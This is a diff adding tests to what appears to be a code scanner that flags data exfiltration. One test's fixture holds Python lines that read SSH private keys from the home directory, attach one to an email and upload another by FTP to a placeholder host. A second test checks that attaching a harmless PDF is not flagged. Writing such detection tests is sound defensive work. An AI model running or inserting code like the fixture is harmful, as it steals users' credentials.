@@ -106,3 +106,26 @@ def test_credentials_environment_dump_filtered_joined_or_read_from_env():
     """
     lines = [line for rule, line in found(source) if rule == "credentials.environment-dump"]
     assert lines == [4, 6, 8]
+
+
+def test_exfiltration_host_data_keys_attached_to_mail_or_uploaded_by_ftp():
+    source = """
+    import ftplib, smtplib
+    from email.message import EmailMessage
+    from pathlib import Path
+    message = EmailMessage()
+    key = Path.home() / '.ssh' / 'id_ed25519'
+    message.add_attachment(key.read_bytes(), maintype='application', subtype='octet-stream')
+    with ftplib.FTP('files.example') as ftp:
+        ftp.storbinary('STOR k', open(Path.home() / '.ssh' / 'id_rsa', 'rb'))
+    """
+    assert _lines(source) == [7, 9]
+
+
+def test_attaching_a_report_is_quiet():
+    source = """
+    from email.message import EmailMessage
+    message = EmailMessage()
+    message.add_attachment(open('report.pdf', 'rb').read(), maintype='application', subtype='pdf')
+    """
+    assert _lines(source) == [] and below_medium(source)
